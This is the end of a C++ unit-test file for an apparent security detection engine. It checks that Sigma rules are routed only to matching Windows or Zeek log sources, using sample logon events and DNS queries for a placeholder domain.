                           {{"Channel", "System"}, {"EventID", "4624"}, {"LogonType", "10"}});
  EXPECT_FALSE(r.Fires(system));
  // The routing holds for the JSON and XML forms of Windows events too.
  for (EventFormat f : {EventFormat::kWindowsJson, EventFormat::kWindowsXml}) {
    Event ev = MakeEvent(f, {{"Channel", "Security"}, {"EventID", "4624"}, {"LogonType", "10"}});
    EXPECT_TRUE(r.Fires(ev)) << FormatName(f);
  }
}

TEST(SigmaRuleRouting, WindowsRuleDoesNotSeeZeekEvents) {
  Loaded r(R"(title: Windows keyword
logsource:
  product: windows
detection:
  keywords:
    - 'evil.example.com'
  condition: keywords
)");
  Event zeek = MakeEvent(EventFormat::kZeekJson, {{"query", "evil.example.com"}}, "dns.log");
  EXPECT_FALSE(r.Fires(zeek));
  EXPECT_TRUE(r.Fires(Proc({{"QueryName", "evil.example.com"}})));
}

TEST(SigmaRuleRouting, ZeekServiceRuleSeesItsLogOnly) {
  Loaded r(R"(title: Zeek dns
logsource:
  product: zeek
  service: dns
detection:
  selection:
    query|endswith: '.example.com'
  condition: selection
)");
  EXPECT_TRUE(
      r.Fires(MakeEvent(EventFormat::kZeekJson, {{"query", "evil.example.com"}}, "/logs/dns.log")));
  EXPECT_FALSE(r.Fires(
      MakeEvent(EventFormat::kZeekJson, {{"query", "evil.example.com"}}, "/logs/http.log")));
}

}  // namespace
}  // namespace aegis::detect::sigma
